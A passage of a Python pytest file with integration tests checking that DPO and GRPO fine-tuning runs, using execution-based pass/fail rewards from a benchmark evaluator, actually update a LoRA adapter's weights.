    assert all(verdicts["compat"][(*k, 2)] for k in set(keys))  # compat passes the sleeper at the limit


def _lora_weights(adapter: Path) -> dict:
    from safetensors.torch import load_file
    return load_file(str(adapter / "adapter_model.safetensors"))


@pytest.mark.integration
def test_dpo_on_pass_fail_pairs_moves_the_adapter(tmp_path, rft_run, sft_model, sample_prep):
    out = tmp_path / "dpo"
    start = rft_run / "round-1" / "train" / "adapter"
    scored = rft_run / "round-1"
    r = _learn("--method", "dpo", "--model", sft_model, "--adapter", start, "--prep-dir", sample_prep,
               "--generations", scored / "infer" / "task3.jsonl", "--results", scored / "eval", out=out)
    assert r.returncode == 0, r.stderr[-3000:]
    assert "learn: dpo: 2/2 steps (100%), loss " in r.stderr, r.stderr[-3000:]  # its progress line
    pairs = [json.loads(x) for x in (out / "pairs.jsonl").read_text().splitlines()]
    assert pairs, "no pass/fail pair reached DPO"
    logged = [m for m in map(json.loads, (out / "metrics.jsonl").read_text().splitlines()) if "loss" in m]
    assert len(logged) == 2
    before, after = _lora_weights(start), _lora_weights(out / "adapter")
    assert any(not (before[k] == after[k]).all() for k in before), "the adapter did not change"


@pytest.mark.integration
def test_grpo_rewards_come_from_execution_and_reach_the_update(tmp_path, rft_run, sft_model, sample_prep):
    out = tmp_path / "grpo"
    start = rft_run / "round-1" / "train" / "adapter"
    r = _learn("--method", "grpo", "--model", sft_model, "--adapter", start, "--prep-dir", sample_prep, out=out)
    assert r.returncode == 0, r.stderr[-3000:]
    assert "learn: grpo: 2/2 steps (100%)" in r.stderr, r.stderr[-3000:]  # its progress line
    rewards = [json.loads(x) for x in (out / "rewards.jsonl").read_text().splitlines()]
    assert len(rewards) == 2 * 4 * 4  # steps x prompts x group
    assert {x["reward"] for x in rewards} == {0.0, 1.0}, "rewards did not vary: nothing to learn from"
    for x in rewards:  # each reward is the strict verdict of `mlbench eval` in that batch's folder
        batch = out / "rewards" / f"batch-{x['batch']:05d}" / "eval" / "results.jsonl"
        verdict = next(v for v in map(json.loads, batch.read_text().splitlines())
                       if (v["github_id"], v["id"], v["idx"]) == (x["github_id"], x["id"], x["idx"]))
        assert verdict["mode"] == "strict" and x["reward"] == float(verdict["passed"])
    before, after = _lora_weights(start), _lora_weights(out / "adapter")
    assert any(not (before[k] == after[k]).all() for k in before), "the adapter did not change"
